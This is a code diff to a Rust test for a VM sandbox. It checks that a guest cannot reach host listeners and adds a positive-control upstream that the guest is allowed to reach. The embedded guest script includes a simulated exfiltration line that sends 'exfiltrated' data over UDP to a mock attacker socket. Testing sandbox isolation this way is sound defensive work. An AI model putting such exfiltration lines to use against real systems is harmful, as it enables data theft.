@@ -401,6 +401,9 @@ fn a_vm_guest_has_no_route_to_a_host_listener() {
     // recording whether anything ever arrives, and an attacker's name
     // server on the host's loopback.
     let local = Upstream::start(b"host loopback service");
+    // And the one the guest may reach, by its name: proof that the guest
+    // has a network, so that what does not arrive was stopped.
+    let allowed = Upstream::start(b"allowed upstream");
     let any = Upstream::on("0.0.0.0:0", b"host service");
     let (lp, ap) = (local.port, any.port);
     let attacker = std::net::UdpSocket::bind("0.0.0.0:0").unwrap();
@@ -426,7 +429,10 @@ print('tls', '{h}', {p}, send(('{h}', {p}), hello('{h}')))\n\
 try: u.sendto(b'exfiltrated', ('{h}', {dp}))\nexcept OSError: pass\n"
         ));
     }
-    script.push_str("print('done')\n");
+    script.push_str(&format!(
+        "print('allowed', send((lookup('allowed.test'), {}), hello('allowed.test')))\nprint('done')\n",
+        allowed.port
+    ));
     let state = TempDir::new("vm-net");
     let ws = TempDir::new("vm-net-ws");
     let o = vm_warden(
@@ -439,7 +445,7 @@ try: u.sendto(b'exfiltrated', ('{h}', {dp}))\nexcept OSError: pass\n"
             "--allow-domain",
             "localhost",
             "--allow-domain",
-            "allowed.test",
+            &format!("allowed.test:{}", allowed.port),
             "--add-host",
             "allowed.test=127.0.0.1",
             "-w",
@@ -454,6 +460,8 @@ try: u.sendto(b'exfiltrated', ('{h}', {dp}))\nexcept OSError: pass\n"
     let out = stdout(&o);
     assert_eq!(code(&o), 0, "{out}\n{}", stderr(&o));
     assert!(out.contains("done"), "{out}\n{}", stderr(&o));
+    assert!(out.contains("allowed b'allowed upstream'"), "{out}");
+    assert_eq!(allowed.connections().len(), 1);
     assert!(!out.contains("service"), "{out}");
     assert!(
         local.connections().is_empty() && any.connections().is_empty(),
